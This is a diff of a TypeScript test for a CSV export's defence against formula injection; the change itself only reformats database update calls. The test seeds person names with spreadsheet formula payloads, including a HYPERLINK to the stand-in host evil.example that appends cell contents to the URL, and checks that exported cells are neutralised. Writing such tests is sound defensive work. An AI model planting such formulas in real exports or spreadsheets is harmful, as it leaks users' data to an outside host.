@@ -94,8 +94,14 @@ describe("the CSV export", () => {
     const sofia = ids.get("Sofia Rossi")!;
     const evil = '=HYPERLINK("http://evil.example/?leak="&A1,"Click, please")';
     await db.update(people).set({ name: evil }).where(eq(people.id, sofia));
-    await db.update(people).set({ name: "@SUM(1+1)" }).where(eq(people.id, ids.get("Liam O'Brien")!));
-    await db.update(people).set({ name: "-2+3" }).where(eq(people.id, ids.get("Daniel Okafor")!));
+    await db
+      .update(people)
+      .set({ name: "@SUM(1+1)" })
+      .where(eq(people.id, ids.get("Liam O'Brien")!));
+    await db
+      .update(people)
+      .set({ name: "-2+3" })
+      .where(eq(people.id, ids.get("Daniel Okafor")!));
     try {
       const marcus = await viewerOf("Marcus Bennett");
       const page = await latestClosed(marcus);
@@ -109,8 +115,14 @@ describe("the CSV export", () => {
       for (const row of records) for (const cell of row) if (/^[=+\-@\t\r]/.test(cell)) expect(cell).toMatch(PLAIN_NUMBER);
     } finally {
       await db.update(people).set({ name: "Sofia Rossi" }).where(eq(people.id, sofia));
-      await db.update(people).set({ name: "Liam O'Brien" }).where(eq(people.id, ids.get("Liam O'Brien")!));
-      await db.update(people).set({ name: "Daniel Okafor" }).where(eq(people.id, ids.get("Daniel Okafor")!));
+      await db
+        .update(people)
+        .set({ name: "Liam O'Brien" })
+        .where(eq(people.id, ids.get("Liam O'Brien")!));
+      await db
+        .update(people)
+        .set({ name: "Daniel Okafor" })
+        .where(eq(people.id, ids.get("Daniel Okafor")!));
     }
   });
 
